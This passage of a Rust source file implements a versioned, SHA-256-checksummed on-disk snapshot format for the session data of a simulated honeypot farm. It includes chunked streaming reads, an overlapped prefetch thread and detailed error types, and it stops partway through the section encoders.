//! `hfstore` — durable, checksummed on-disk snapshots of a collected run.
//!
//! The paper's pipeline re-analyzes a fixed 15-month session database; this
//! module gives the reproduction the same workflow: `hfarm simulate` writes
//! the collected [`SessionStore`] + [`TagDb`] + deployment plan once, and
//! `hfarm report` (or any reanalysis tool) reloads it without re-simulating.
//!
//! ## Format (version 2)
//!
//! ```text
//! [magic "HFSTORE\0" : 8 bytes]
//! [format version    : u32 LE]
//! [section count     : u32 LE]
//! then, for each section in the fixed order below:
//! [section id   : u32 LE]
//! [payload len  : u64 LE]
//! [SHA-256     : 32 bytes]                     (via hf-hash)
//! [payload      : len bytes]
//! ```
//!
//! Sections, in order: META, PLAN, CREDS, COMMANDS, URIS, SSH_VERSIONS,
//! DIGESTS, LISTS, ROWS, TAGS. All integers are little-endian and
//! fixed-width; rows use the same 48-byte layout as the in-memory
//! [`Row`]. String/digest/list pools are written in insertion order and tag
//! entries sorted by digest, so snapshots of a deterministic run are
//! byte-identical across thread counts (see DESIGN.md §5).
//!
//! For every section except ROWS, the header's SHA-256 covers the payload
//! bytes and readers materialize the payload whole. The ROWS section — the
//! only one that grows with the window (~19 GB at scale 1.0) — is chunked
//! so both sides stream it in bounded memory:
//!
//! ```text
//! ROWS payload := [n_rows        : u64 LE]
//!                 [rows_per_chunk: u32 LE]     (writer uses ROWS_PER_CHUNK)
//!                 [n_chunks      : u32 LE]     (= ceil(n_rows / rows_per_chunk))
//!                 then, per chunk:
//!                 [chunk rows    : u32 LE]     (rows_per_chunk except the last)
//!                 [SHA-256 of the chunk's row bytes : 32 bytes]
//!                 [chunk rows × 48 bytes of row data]
//! ```
//!
//! The ROWS header checksum covers the *chunk manifest* — the 16-byte
//! prologue followed by every per-chunk `[rows ‖ digest]` header — not the
//! row data itself (Merkle style: the manifest authenticates the chunk
//! digests, each digest authenticates its data). A reader therefore
//! verifies each chunk the moment it arrives
//! ([`SnapshotError::ChunkChecksumMismatch`] names the failing chunk) and
//! confirms the manifest after the last one, without ever holding more
//! than one chunk; [`SnapshotReader`] is that streaming reader, and
//! [`Snapshot::read_from`] is a thin materializing wrapper over it.
//!
//! ## Error handling
//!
//! The load path never panics and never `unwrap()`s: a truncated file, bad
//! magic, unsupported version, section or chunk checksum mismatch, or
//! dangling interned id each surfaces as a distinct [`SnapshotError`]
//! variant, verified by the fault-injection suite in
//! `tests/snapshot_faults.rs`.

use std::fmt;
use std::fs::File;
use std::io::{self, BufReader, BufWriter, Read, Write};
use std::path::Path;
use std::sync::{mpsc, OnceLock};

use hf_geo::{Asn, CountryId, Ip4, NetworkClass};
use hf_hash::{Digest, Sha256};
use hf_honeypot::ArtifactStore;
use hf_simclock::SimInstant;

use crate::collector::Dataset;
use crate::deployment::{FarmPlan, HoneypotNode};
use crate::intern::{DigestPool, ListPool, StringPool, MAX_POOL_LEN, NONE_ID};
use crate::store::{Row, SessionStore};
use crate::tags::TagDb;

/// File magic: identifies an hfstore snapshot.
pub const MAGIC: [u8; 8] = *b"HFSTORE\0";

/// Current format version. Bump on any layout change; readers reject other
/// versions with [`SnapshotError::UnsupportedVersion`]. Version 2 chunked
/// the ROWS section (see the module docs); version-1 files are no longer
/// readable.
pub const FORMAT_VERSION: u32 = 2;

/// Rows per chunk the writer emits: 65 536 rows × 48 bytes = 3 MiB of row
/// data per chunk. Readers accept any `rows_per_chunk` up to
/// [`MAX_ROWS_PER_CHUNK`], so this can be retuned without a format bump.
pub const ROWS_PER_CHUNK: u32 = 1 << 16;

/// Upper bound on a file's declared `rows_per_chunk` (48 MiB of row data):
/// the streaming reader's per-chunk allocation is bounded by this, so a
/// hostile prologue cannot force a giant buffer.
pub const MAX_ROWS_PER_CHUNK: u32 = 1 << 20;

/// Serialized row width. The on-disk layout mirrors the in-memory [`Row`]
/// field-for-field, so encode/decode are fixed-offset views over 48-byte
/// records (no per-field cursor, no intermediate copies).
const ROW_BYTES: usize = 48;
const _: () = assert!(std::mem::size_of::<Row>() == ROW_BYTES);

/// Bytes of per-chunk header inside the ROWS payload: u32 row count +
/// 32-byte chunk digest.
const CHUNK_HEADER_LEN: usize = 4 + 32;

/// Chunks the overlapped reader/writer stages keep in flight: the helper
/// stage works on chunk `k + 1` while the main thread consumes chunk `k`,
/// double-buffered through a recycle channel (two buffers total, so the
/// overlap never holds more than two decoded-size chunks).
const OVERLAP_DEPTH: usize = 2;

/// `HF_SNAPSHOT_NO_OVERLAP=1` disables the helper-thread prefetch in
/// [`SnapshotReader::fold_chunks`] and the encode-ahead stage in the rows
/// writer, forcing the bit-identical serial paths (checked once, like
/// `HF_HASH_FORCE_SCALAR`).
fn overlap_disabled() -> bool {
    static DISABLED: OnceLock<bool> = OnceLock::new();
    *DISABLED.get_or_init(|| {
        std::env::var_os("HF_SNAPSHOT_NO_OVERLAP").is_some_and(|v| !v.is_empty() && v != "0")
    })
}

/// Bytes of ROWS-payload prologue: u64 row count + u32 rows-per-chunk +
/// u32 chunk count.
const ROWS_PROLOGUE_LEN: usize = 8 + 4 + 4;

/// `(section id, section name)` in on-disk order. Section ids are part of
/// the format; names appear in error messages and tests.
pub const SECTIONS: [(u32, &str); 10] = [
    (1, "meta"),
    (2, "plan"),
    (3, "creds"),
    (4, "commands"),
    (5, "uris"),
    (6, "ssh_versions"),
    (7, "digests"),
    (8, "lists"),
    (9, "rows"),
    (10, "tags"),
];

/// Run-level metadata stored in the META section.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SnapshotMeta {
    /// Root seed of the run that produced the snapshot.
    pub seed: u64,
    /// Volume scale factor (1.0 = the paper's 402 M sessions).
    pub scale_volume: f64,
    /// Hash-diversity scale factor.
    pub scale_hashes: f64,
    /// Days simulated.
    pub days: u32,
    /// Distinct client IPs the ecosystem allocated.
    pub n_clients: u64,
}

/// A complete, self-contained snapshot of a collected run.
#[derive(Debug)]
pub struct Snapshot {
    /// Run-level metadata.
    pub meta: SnapshotMeta,
    /// The deployment that produced the data.
    pub plan: FarmPlan,
    /// All sessions (rows + interning pools).
    pub sessions: SessionStore,
    /// Hash → tag/campaign database.
    pub tags: TagDb,
}

/// Everything that can go wrong writing or (mostly) loading a snapshot.
#[derive(Debug)]
pub enum SnapshotError {
    /// Underlying I/O failure (not a format problem).
    Io(io::Error),
    /// The first 8 bytes are not [`MAGIC`].
    BadMagic {
        /// What was found instead.
        found: [u8; 8],
    },
    /// The file declares a format version this reader does not speak.
    UnsupportedVersion {
        /// Version found in the file.
        found: u32,
        /// The single version this build supports.
        supported: u32,
    },
    /// The file ended before the named section was complete.
    Truncated {
        /// Section being read when the data ran out ("header" for the
        /// file header).
        section: &'static str,
    },
    /// A section's payload does not hash to its stored checksum.
    ChecksumMismatch {
        /// The corrupted section.
        section: &'static str,
    },
    /// One chunk of a chunked section does not hash to its stored chunk
    /// digest. The rest of the section (and every earlier chunk) may be
    /// intact — this is corruption pinpointed to `chunk`.
    ChunkChecksumMismatch {
        /// The chunked section ("rows").
        section: &'static str,
        /// Zero-based index of the failing chunk.
        chunk: u32,
    },
    /// A section header carries an id other than the one mandated by the
    /// fixed section order.
    UnexpectedSection {
        /// Section id the format requires at this position.
        expected: u32,
        /// Section id found in the file.
        found: u32,
    },
    /// A row references a pool id that the snapshot's pools do not contain.
    DanglingId {
        /// Which pool the id points into ("cred", "command", "uri",
        /// "ssh_version", "digest", "list").
        kind: &'static str,
        /// The out-of-range id.
        id: u32,
    },
    /// A section passed its checksum but its contents are internally
    /// inconsistent (duplicate pool entry, count mismatch, bad enum value…).
    Corrupt {
        /// The inconsistent section.
        section: &'static str,
        /// Human-readable description.
        detail: String,
    },
    /// Refusing to write a pool whose ids no longer fit in 31 bits (they
    /// would corrupt the packed `id << 1 | flag` encoding; see
    /// [`MAX_POOL_LEN`]).
    PoolOverflow {
        /// The overflowing pool.
        pool: &'static str,
        /// Its entry count.
        len: usize,
    },
}

impl fmt::Display for SnapshotError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SnapshotError::Io(e) => write!(f, "snapshot i/o error: {e}"),
            SnapshotError::BadMagic { found } => {
                write!(f, "not an hfstore snapshot (magic {found:02x?})")
            }
            SnapshotError::UnsupportedVersion { found, supported } => write!(
                f,
                "unsupported hfstore version {found} (this build reads version {supported})"
            ),
            SnapshotError::Truncated { section } => {
                write!(f, "snapshot truncated inside the {section} section")
            }
            SnapshotError::ChecksumMismatch { section } => {
                write!(f, "checksum mismatch in the {section} section")
            }
            SnapshotError::ChunkChecksumMismatch { section, chunk } => {
                write!(f, "checksum mismatch in {section} chunk {chunk}")
            }
            SnapshotError::UnexpectedSection { expected, found } => write!(
                f,
                "unexpected section id {found} (expected {expected}); sections are ordered"
            ),
            SnapshotError::DanglingId { kind, id } => {
                write!(f, "row references dangling {kind} id {id}")
            }
            SnapshotError::Corrupt { section, detail } => {
                write!(f, "corrupt {section} section: {detail}")
            }
            SnapshotError::PoolOverflow { pool, len } => write!(
                f,
                "{pool} pool holds {len} entries; ids beyond 2^31-1 cannot be encoded"
            ),
        }
    }
}

impl std::error::Error for SnapshotError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            SnapshotError::Io(e) => Some(e),
            _ => None,
        }
    }
}

impl From<io::Error> for SnapshotError {
    fn from(e: io::Error) -> Self {
        SnapshotError::Io(e)
    }
}

impl Snapshot {
    /// Write the snapshot to `w` in hfstore format.
    pub fn write_to<W: Write>(&self, w: &mut W) -> Result<(), SnapshotError> {
        self.write_to_chunked(w, ROWS_PER_CHUNK)
    }

    /// [`Snapshot::write_to`] with an explicit rows-per-chunk — a
    /// test/tooling knob for producing multi-chunk files from small stores
    /// (readers accept any value in `1..=`[`MAX_ROWS_PER_CHUNK`], so this
    /// is not a format change). The default writer always uses
    /// [`ROWS_PER_CHUNK`].
    pub fn write_to_chunked<W: Write>(
        &self,
        w: &mut W,
        rows_per_chunk: u32,
    ) -> Result<(), SnapshotError> {
        assert!(
            (1..=MAX_ROWS_PER_CHUNK).contains(&rows_per_chunk),
            "rows_per_chunk {rows_per_chunk} outside 1..={MAX_ROWS_PER_CHUNK}"
        );
        let s = &self.sessions;
        for (pool, len) in [
            ("creds", s.creds.len()),
            ("commands", s.commands.len()),
            ("uris", s.uris.len()),
            ("ssh_versions", s.ssh_versions.len()),
            ("digests", s.digests.len()),
            ("lists", s.lists.len()),
        ] {
            if len > MAX_POOL_LEN {
                return Err(SnapshotError::PoolOverflow { pool, len });
            }
        }

        let _span = hf_obs::span!("snapshot.write");
        hf_obs::counter!("snapshot.rows_written", s.len() as u64);

        w.write_all(&MAGIC)?;
        w.write_all(&FORMAT_VERSION.to_le_bytes())?;
        w.write_all(&(SECTIONS.len() as u32).to_le_bytes())?;
        // File preamble: magic + u32 version + u32 section count.
        hf_obs::counter!("snapshot.bytes_written", (MAGIC.len() + 4 + 4) as u64);

        let mut buf = Vec::new();
        for (id, name) in SECTIONS {
            let _sec = hf_obs::span_owned_with(|| format!("snapshot.write.{name}"));
            if name == "rows" {
                // The one section that grows with the window: stream it in
                // bounded chunks instead of building a multi-GB payload.
                let payload_len = write_rows_section(w, id, s.rows(), rows_per_chunk)?;
                hf_obs::observe!("snapshot.section_bytes", payload_len);
                hf_obs::counter!("snapshot.bytes_written", payload_len + 4 + 8 + 32);
                continue;
            }
            buf.clear();
            match name {
                "meta" => self.encode_meta(&mut buf),
                "plan" => encode_plan(&self.plan, &mut buf),
                "creds" => encode_string_pool(&s.creds, &mut buf),
                "commands" => encode_string_pool(&s.commands, &mut buf),
                "uris" => encode_string_pool(&s.uris, &mut buf),
                "ssh_versions" => encode_string_pool(&s.ssh_versions, &mut buf),
                "digests" => encode_digest_pool(&s.digests, &mut buf),
                "lists" => encode_list_pool(&s.lists, &mut buf),
                "tags" => encode_tags(&self.tags, &mut buf),
                _ => unreachable!("section table is exhaustive"),
            }
            hf_obs::observe!("snapshot.section_bytes", buf.len());
            // Section header: u32 id + u64 length + 32-byte checksum.
            hf_obs::counter!("snapshot.bytes_written", (buf.len() + 4 + 8 + 32) as u64);
            w.write_all(&id.to_le_bytes())?;
            w.write_all(&(buf.len() as u64).to_le_bytes())?;
            w.write_all(&Sha256::digest(&buf).0)?;
            w.write_all(&buf)?;
        }
        w.flush()?;
        Ok(())
    }

    /// Write the snapshot to a file (buffered).
    pub fn write_file<P: AsRef<Path>>(&self, path: P) -> Result<(), SnapshotError> {
        let mut w = BufWriter::new(File::create(path)?);
        self.write_to(&mut w)
    }

    /// Read a snapshot from `r`, validating magic, version, section and
    /// chunk checksums, and every interned id a row references.
    ///
    /// A materializing wrapper over [`SnapshotReader`]: rows accumulate
    /// into one `Vec`, so memory grows with the file. Analyses that only
    /// need a fold over the rows should drive [`SnapshotReader`] directly.
    pub fn read_from<R: Read + Send>(r: &mut R) -> Result<Snapshot, SnapshotError> {
        let _span = hf_obs::span!("snapshot.load");
        let reader = SnapshotReader::open(r)?;
        // Grown chunk by chunk: the declared row count is untrusted until
        // the data actually arrives, so no upfront n_rows-sized reserve.
        let mut rows = Vec::new();
        let (meta, plan, mut sessions, tags) = reader.fold_chunks(|_, _, chunk| {
            rows.extend_from_slice(chunk);
            Ok(())
        })?;
        sessions.set_rows(rows);
        Ok(Snapshot {
            meta,
            plan,
            sessions,
            tags,
        })
    }

    /// Read a snapshot from a file (buffered).
    pub fn read_file<P: AsRef<Path>>(path: P) -> Result<Snapshot, SnapshotError> {
        let mut r = BufReader::new(File::open(path)?);
        Snapshot::read_from(&mut r)
    }

    /// Rebuild the artifact store by replaying stored rows in order —
    /// exactly the observation sequence [`crate::Collector::ingest`]
    /// performed (file hashes then download hashes, per session, at the
    /// session's start), so `first_seen` / `last_seen` / `occurrences`
    /// match the live collector's.
    pub fn rebuild_artifacts(&self) -> ArtifactStore {
        let mut artifacts = ArtifactStore::new();
        for row in self.sessions.rows() {
            let at = SimInstant(row.start_secs as u64);
            for &id in self.sessions.lists.get(row.hash_list_id) {
                artifacts.observe_hash(self.sessions.digests.get(id), 0, at);
            }
            for &id in self.sessions.lists.get(row.dl_list_id) {
                artifacts.observe_hash(self.sessions.digests.get(id), 0, at);
            }
        }
        artifacts
    }

    /// Consume the snapshot into the [`Dataset`] + [`TagDb`] pair the
    /// report pipeline runs on, plus the run metadata.
    pub fn into_dataset(self) -> (Dataset, TagDb, SnapshotMeta) {
        let artifacts = self.rebuild_artifacts();
        (
            Dataset {
                sessions: self.sessions,
                artifacts,
                plan: self.plan,
            },
            self.tags,
            self.meta,
        )
    }

    fn encode_meta(&self, buf: &mut Vec<u8>) {
        buf.extend_from_slice(&self.meta.seed.to_le_bytes());
        buf.extend_from_slice(&self.meta.scale_volume.to_bits().to_le_bytes());
        buf.extend_from_slice(&self.meta.scale_hashes.to_bits().to_le_bytes());
        buf.extend_from_slice(&self.meta.days.to_le_bytes());
        buf.extend_from_slice(&self.meta.n_clients.to_le_bytes());
        buf.extend_from_slice(&(self.sessions.len() as u64).to_le_bytes());
    }
}

/// META plus the row count cross-check it carries.
struct DecodedMeta {
    public: SnapshotMeta,
    n_rows: u64,
}

/// Read one fully-materialized section in the fixed SECTIONS order and
/// decode it (including a trailing-bytes check) before moving on.
fn read_decoded_section<R: Read, T>(
    r: &mut R,
    idx: usize,
    decode: impl FnOnce(&mut Cursor<'_>) -> Result<T, SnapshotError>,
) -> Result<T, SnapshotError> {
    let (id, name) = SECTIONS[idx];
    let _sec = hf_obs::span_owned_with(|| format!("snapshot.load.{name}"));
    let payload = read_section(r, id, name)?;
    let mut cur = Cursor::new(&payload, name);
    let out = decode(&mut cur)?;
    cur.finish()?;
    Ok(out)
}

/// Streaming hfstore reader: the small, row-count-independent sections
/// (meta, plan, pools) are materialized by [`SnapshotReader::open`]; the
/// rows section is then consumed one verified chunk at a time through
/// [`SnapshotReader::next_chunk`]; [`SnapshotReader::finish`] reads the
/// tags and hands back the pools-only [`SessionStore`] shell. Peak memory
/// is the pools plus a single chunk — never the whole rows section.
///
/// Rows handed out by `next_chunk` are already fully validated (chunk
/// checksum, enum bytes, interned ids against the pools), so
/// [`SessionStore::view_row`] against [`SnapshotReader::store`] is safe:
///
/// ```no_run
/// # fn main() -> Result<(), hf_farm::SnapshotError> {
/// # let file = std::io::empty();
/// let mut reader = hf_farm::SnapshotReader::open(file)?;
/// let mut rows = Vec::new();
/// while reader.next_chunk(&mut rows)? {
///     for row in &rows {
///         let _view = reader.store().view_row(row);
///         // … fold the session …
///     }
/// }
/// let (meta, plan, shell, tags) = reader.finish()?;
/// # Ok(()) }
/// ```
pub struct SnapshotReader<R: Read> {
    /// The stream-position half: underlying reader, chunk cursor, and
    /// manifest re-accumulation. Split out so the overlapped fold can hand
    /// it to a prefetch thread while decode/validate stays on the caller's
    /// thread (see [`SnapshotReader::fold_chunks`]).
    raw: RawChunks<R>,
    meta: DecodedMeta,
    plan: FarmPlan,
    /// Pools-only shell; rows stay with the caller.
    store: SessionStore,
    /// Already-validated interned ids, so repeated list references cost a
    /// bit test instead of a pool walk.
    memo: ValidationMemo,
    /// Reusable raw-bytes buffer for one chunk.
    data_buf: Vec<u8>,
    rows_done: bool,
}

/// The raw, row-agnostic half of the streaming reader: reads one chunk at
/// a time from the underlying stream, verifies its checksum, and
/// re-accumulates the chunk manifest. Owns everything a prefetch thread
/// needs — and nothing the decode/validate/fold side touches.
struct RawChunks<R: Read> {
    r: R,
    /// Header checksum of the rows section = SHA-256 of the chunk manifest.
    rows_checksum: [u8; 32],
    rows_per_chunk: u32,
    n_chunks: u32,
    n_rows: u64,
    chunks_read: u32,
    rows_read: u64,
    /// Prologue + per-chunk headers, re-accumulated while streaming and
    /// verified against `rows_checksum` after the last chunk.
    manifest: Vec<u8>,
}

impl<R: Read> RawChunks<R> {
    /// Read and checksum-verify the next raw chunk into `buf` (replacing
    /// its contents), returning its row count — or `None` once every chunk
    /// has been consumed and the manifest has verified against the section
    /// checksum.
    fn next_raw(&mut self, buf: &mut Vec<u8>) -> Result<Option<u32>, SnapshotError> {
        if self.chunks_read == self.n_chunks {
            if Sha256::digest(&self.manifest).0 != self.rows_checksum {
                return Err(SnapshotError::ChecksumMismatch { section: "rows" });
            }
            return Ok(None);
        }
        let idx = self.chunks_read;
        let chunk_rows = u32::from_le_bytes(read_array(&mut self.r, "rows")?);
        let digest: [u8; 32] = read_array(&mut self.r, "rows")?;
        // Every chunk is full except the last; the expected count is fully
        // determined by the validated prologue, so a header that disagrees
        // is structural corruption, not just a checksum problem.
        let expected = (self.n_rows - self.rows_read).min(self.rows_per_chunk as u64);
        if chunk_rows as u64 != expected {
            return Err(SnapshotError::Corrupt {
                section: "rows",
                detail: format!("chunk {idx} declares {chunk_rows} rows, expected {expected}"),
            });
        }
        buf.clear();
        buf.resize(chunk_rows as usize * ROW_BYTES, 0);
        read_exact(&mut self.r, buf, "rows")?;
        if Sha256::digest(buf).0 != digest {
            return Err(SnapshotError::ChunkChecksumMismatch {
                section: "rows",
                chunk: idx,
            });
        }
        self.manifest.extend_from_slice(&chunk_rows.to_le_bytes());
        self.manifest.extend_from_slice(&digest);
        self.chunks_read += 1;
        self.rows_read += chunk_rows as u64;
        Ok(Some(chunk_rows))
    }
}

impl<R: Read> SnapshotReader<R> {
    /// Open a snapshot stream: validate the header, materialize the meta /
    /// plan / pool sections, and position the stream at the first rows
    /// chunk (validating the rows prologue against the section length and
    /// the meta row count).
    pub fn open(mut r: R) -> Result<Self, SnapshotError> {
        let mut magic = [0u8; 8];
        read_exact(&mut r, &mut magic, "header")?;
        if magic != MAGIC {
            return Err(SnapshotError::BadMagic { found: magic });
        }
        let version = u32::from_le_bytes(read_array(&mut r, "header")?);
        if version != FORMAT_VERSION {
            return Err(SnapshotError::UnsupportedVersion {
                found: version,
                supported: FORMAT_VERSION,
            });
        }
        let n_sections = u32::from_le_bytes(read_array(&mut r, "header")?);
        if n_sections != SECTIONS.len() as u32 {
            return Err(SnapshotError::Corrupt {
                section: "header",
                detail: format!(
                    "section count {n_sections}, version {FORMAT_VERSION} has {}",
                    SECTIONS.len()
                ),
            });
        }

        let meta = read_decoded_section(&mut r, 0, decode_meta)?;
        let plan = read_decoded_section(&mut r, 1, decode_plan)?;
        let creds = read_decoded_section(&mut r, 2, decode_string_pool)?;
        let commands = read_decoded_section(&mut r, 3, decode_string_pool)?;
        let uris = read_decoded_section(&mut r, 4, decode_string_pool)?;
        let ssh_versions = read_decoded_section(&mut r, 5, decode_string_pool)?;
        let digests = read_decoded_section(&mut r, 6, decode_digest_pool)?;
        let lists = read_decoded_section(&mut r, 7, decode_list_pool)?;

        // Rows section header + prologue. Every prologue field is
        // cross-checked structurally here; the manifest checksum after the
        // last chunk then confirms the bytes themselves.
        let (rows_id, _) = SECTIONS[8];
        let found = u32::from_le_bytes(read_array(&mut r, "rows")?);
        if found != rows_id {
            return Err(SnapshotError::UnexpectedSection {
                expected: rows_id,
                found,
            });
        }
        let payload_len = u64::from_le_bytes(read_array(&mut r, "rows")?);
        let rows_checksum: [u8; 32] = read_array(&mut r, "rows")?;
        let n_rows = u64::from_le_bytes(read_array(&mut r, "rows")?);
        let rows_per_chunk = u32::from_le_bytes(read_array(&mut r, "rows")?);
        let n_chunks = u32::from_le_bytes(read_array(&mut r, "rows")?);
        if rows_per_chunk == 0 || rows_per_chunk > MAX_ROWS_PER_CHUNK {
            return Err(SnapshotError::Corrupt {
                section: "rows",
                detail: format!("rows_per_chunk {rows_per_chunk} outside 1..={MAX_ROWS_PER_CHUNK}"),
            });
        }
        let expected_chunks = n_rows.div_ceil(rows_per_chunk as u64);
        if n_chunks as u64 != expected_chunks {
            return Err(SnapshotError::Corrupt {
                section: "rows",
                detail: format!(
                    "{n_chunks} chunks declared; {n_rows} rows at {rows_per_chunk}/chunk \
                     need {expected_chunks}"
                ),
            });
        }
        if meta.n_rows != n_rows {
            return Err(SnapshotError::Corrupt {
                section: "rows",
                detail: format!("meta declares {} rows, prologue {n_rows}", meta.n_rows),
            });
        }
        let expected_len =
            ROWS_PROLOGUE_LEN as u64 + n_chunks as u64 * CHUNK_HEADER_LEN as u64 + n_rows * 48;
        if payload_len != expected_len {
            return Err(SnapshotError::Corrupt {
                section: "rows",
                detail: format!(
                    "payload length {payload_len} disagrees with prologue \
                     (expected {expected_len})"
                ),
            });
        }
        // Re-accumulate the manifest as chunks stream by; growth is bounded
        // by bytes actually read, so a lying n_chunks cannot balloon it.
        // The reserve is capped for the same reason: n_chunks is a header
        // field, and the declared chunks need not exist.
        let mut manifest = Vec::with_capacity(
            ROWS_PROLOGUE_LEN + (n_chunks as usize).min(1 << 16) * CHUNK_HEADER_LEN,
        );
        manifest.extend_from_slice(&n_rows.to_le_bytes());
        manifest.extend_from_slice(&rows_per_chunk.to_le_bytes());
        manifest.extend_from_slice(&n_chunks.to_le_bytes());

        let memo = ValidationMemo::new(ssh_versions.len(), lists.len());
        Ok(SnapshotReader {
            raw: RawChunks {
                r,
                rows_checksum,
                rows_per_chunk,
                n_chunks,
                n_rows,
                chunks_read: 0,
                rows_read: 0,
                manifest,
            },
            meta,
            plan,
            store: SessionStore::from_parts(
                Vec::new(),
                creds,
                commands,
                uris,
                ssh_versions,
                digests,
                lists,
            ),
            memo,
            data_buf: Vec::new(),
            rows_done: false,
        })
    }

    /// Run-level metadata.
    pub fn meta(&self) -> &SnapshotMeta {
        &self.meta.public
    }

    /// The deployment plan.
    pub fn plan(&self) -> &FarmPlan {
        &self.plan
    }

    /// The pools-only store shell rows from [`SnapshotReader::next_chunk`]
    /// resolve against (via [`SessionStore::view_row`]).
    pub fn store(&self) -> &SessionStore {
        &self.store
    }

    /// Total rows the snapshot declares.
    pub fn n_rows(&self) -> u64 {
        self.meta.n_rows
    }

    /// Rows verified and handed out so far.
    pub fn rows_read(&self) -> u64 {
        self.raw.rows_read
    }

    /// Read the next rows chunk into `rows` (replacing its contents).
    /// Returns `false` once every chunk has been consumed and the chunk
    /// manifest has verified against the section checksum. Each returned
    /// chunk is fully validated: chunk checksum, per-row enum bytes, and
    /// every interned id resolved against the pools.
    pub fn next_chunk(&mut self, rows: &mut Vec<Row>) -> Result<bool, SnapshotError> {
        rows.clear();
        if self.rows_done {
            return Ok(false);
        }
        match self.raw.next_raw(&mut self.data_buf)? {
            None => {
                self.rows_done = true;
                Ok(false)
            }
            Some(chunk_rows) => {
                decode_row_chunk(&self.data_buf, chunk_rows as usize, rows)?;
                validate_rows(rows, &self.store, &mut self.memo)?;
                Ok(true)
            }
        }
    }

    /// Consume the reader, driving `fold` over every remaining rows chunk,
    /// then read the tags section and return what [`SnapshotReader::finish`]
    /// returns. `fold` receives the pools-only store, the plan, and one
    /// fully-validated chunk of rows per call, in file order.
    ///
    /// Unless `HF_SNAPSHOT_NO_OVERLAP` is set (or the file has at most one
    /// chunk), a helper thread reads and checksums chunk `k + 1` while the
    /// calling thread decodes, validates, and folds chunk `k` — the read +
    /// SHA-256 side of the stream runs entirely in the shadow of the fold.
    /// Buffers rotate through a bounded recycle channel ([`OVERLAP_DEPTH`]
    /// chunks in flight), and chunks are delivered strictly in order, so
    /// results — and the *first* error, should one surface — are identical
    /// to the serial path's.
    ///
    /// Time the calling thread spends blocked on the prefetcher is recorded
    /// in the `snapshot.chunk_wait` span: if it is a large share of the
    /// fold wall time, the disk (or the hash) is the bottleneck; if near
    /// zero, the fold is.
    pub fn fold_chunks<F>(
        mut self,
        mut fold: F,
    ) -> Result<(SnapshotMeta, FarmPlan, SessionStore, TagDb), SnapshotError>
    where
        R: Send,
        F: FnMut(&SessionStore, &FarmPlan, &[Row]) -> Result<(), SnapshotError>,
    {
        if self.raw.n_chunks - self.raw.chunks_read <= 1 || overlap_disabled() {
            let mut rows = Vec::new();
            while self.next_chunk(&mut rows)? {
                fold(&self.store, &self.plan, &rows)?;
            }
            return self.finish();
        }
        let SnapshotReader {
            mut raw,
            meta,
            plan,
            store,
            mut memo,
            data_buf,
            ..
        } = self;
        let mut rows: Vec<Row> = Vec::new();
        let mut first_err: Option<SnapshotError> = None;
        let mut raw = std::thread::scope(|s| {
            let (full_tx, full_rx) =
                mpsc::sync_channel::<Result<(u32, Vec<u8>), SnapshotError>>(OVERLAP_DEPTH);
            let (free_tx, free_rx) = mpsc::channel::<Vec<u8>>();
            for buf in [data_buf, Vec::new()] {
                let _ = free_tx.send(buf);
            }
            let prefetcher = s.spawn(move || {
                loop {
                    let mut buf = free_rx.recv().unwrap_or_default();
                    match raw.next_raw(&mut buf) {
                        Ok(Some(n)) => {
                            if full_tx.send(Ok((n, buf))).is_err() {
                                break; // consumer bailed; stop reading
                            }
                        }
                        Ok(None) => break, // dropping full_tx ends the fold
                        Err(e) => {
                            let _ = full_tx.send(Err(e));
                            break;
                        }
                    }
                }
                // Hash throughput counters were recorded on this thread.
                hf_obs::flush();
                raw
            });
            // Chunks are processed strictly in delivery order, so the first
            // error observed here — whether it came over the channel or
            // from decode/validate/fold below — is the same error the
            // serial path would have hit first.
            loop {
                let msg = {
                    let _wait = hf_obs::span!("snapshot.chunk_wait");
                    full_rx.recv()
                };
                let Ok(msg) = msg else { break };
                match msg {
                    Ok((chunk_rows, buf)) => {
                        rows.clear();
                        let step = decode_row_chunk(&buf, chunk_rows as usize, &mut rows)
                            .and_then(|()| validate_rows(&rows, &store, &mut memo))
                            .and_then(|()| fold(&store, &plan, &rows));
                        let _ = free_tx.send(buf);
                        if let Err(e) = step {
                            first_err = Some(e);
                            break;
                        }
                    }
                    Err(e) => {
                        first_err = Some(e);
                        break;
                    }
                }
            }
            // On early exit these drops unblock a prefetcher mid-send.
            drop(full_rx);
            drop(free_tx);
            prefetcher
                .join()
                .expect("snapshot prefetch thread panicked")
        });
        if let Some(e) = first_err {
            return Err(e);
        }
        let tags = read_decoded_section(&mut raw.r, 9, decode_tags)?;
        hf_obs::counter!("snapshot.rows_loaded", raw.rows_read);
        Ok((meta.public, plan, store, tags))
    }

    /// Finish the stream: drain (and verify) any rows chunks the caller
    /// did not consume, read the tags section, and return the metadata,
    /// plan, pools-only store shell, and tags.
    pub fn finish(
        mut self,
    ) -> Result<(SnapshotMeta, FarmPlan, SessionStore, TagDb), SnapshotError> {
        let mut rest = Vec::new();
        while self.next_chunk(&mut rest)? {}
        let tags = read_decoded_section(&mut self.raw.r, 9, decode_tags)?;
        hf_obs::counter!("snapshot.rows_loaded", self.raw.rows_read);
        Ok((self.meta.public, self.plan, self.store, tags))
    }
}

// ---------------------------------------------------------------------------
// Section encoders. All integers little-endian; lengths precede payloads.

fn encode_plan(plan: &FarmPlan, buf: &mut Vec<u8>) {
    buf.extend_from_slice(&(plan.nodes.len() as u32).to_le_bytes());
    for n in &plan.nodes {
        buf.extend_from_slice(&n.id.to_le_bytes());
        buf.extend_from_slice(&n.ip.0.to_le_bytes());
        buf.extend_from_slice(&n.country.0.to_le_bytes());
        buf.extend_from_slice(&n.asn.0.to_le_bytes());
        let class = NetworkClass::ALL
            .iter()
            .position(|c| *c == n.class)
            .expect("NetworkClass::ALL is exhaustive") as u8;
        buf.push(class);
    }
}

fn encode_string_pool(pool: &StringPool, buf: &mut Vec<u8>) {
    buf.extend_from_slice(&(pool.len() as u32).to_le_bytes());
    for (_, s) in pool.iter() {
        buf.extend_from_slice(&(s.len() as u32).to_le_bytes());
        buf.extend_from_slice(s.as_bytes());
    }
}

fn encode_digest_pool(pool: &DigestPool, buf: &mut Vec<u8>) {
    buf.extend_from_slice(&(pool.len() as u32).to_le_bytes());
    for (_, d) in pool.iter() {
        buf.extend_from_slice(&d.0);
    }
}

fn encode_list_pool(pool: &ListPool, buf: &mut Vec<u8>) {
    buf.extend_from_slice(&(pool.len() as u32).to_le_bytes());
    for (_, list) in pool.iter() {
